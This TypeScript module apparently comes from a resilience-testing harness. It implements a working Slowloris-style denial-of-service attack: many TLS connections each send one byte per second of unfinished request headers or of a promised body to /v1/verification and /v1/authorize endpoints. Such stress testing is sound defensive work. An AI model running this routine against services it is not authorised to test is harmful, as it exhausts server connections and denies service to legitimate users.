// Sends one byte a second on each connection: half of them of the request line and headers, half of a body.
import { type Attack, connections } from '../attack.js'
import { virtualUsers } from '../virtual-users.js'

const byteEveryMs = 1_000

export const byteASecond: Attack = {
  name: 'a byte a second',
  about: `${connections} connections send a byte a second, of headers or of a body`,
  needsCredentials: false,
  async run(parts) {
    const { wire, count, stopped } = parts
    const slow = 'GET /v1/verification/panbasic?pan_number=ZZZPZ1000A HTTP/1.1\r\nX-Slow: '
    const head = [
      'POST /v1/authorize HTTP/1.1',
      `Host: ${wire.host}`,
      'Content-Type: application/x-www-form-urlencoded',
      'Content-Length: 1000',
    ]
    await virtualUsers(
      parts,
      connections,
      async (from, user) => {
        const socket = await wire.openTls(from)
        if (socket === undefined) return count('not let in')
        const text = user % 2 === 0 ? slow : ''
        if (user % 2 === 1) socket.write(`${head.join('\r\n')}\r\n\r\n`)
        for (let at = 0; !socket.destroyed && !stopped.aborted; at++) {
          socket.write(text[at] ?? 'x')
          await wire.pause(byteEveryMs)
        }
        if (socket.destroyed) count('cut off')
      },
      1_000,
    )
  },
}
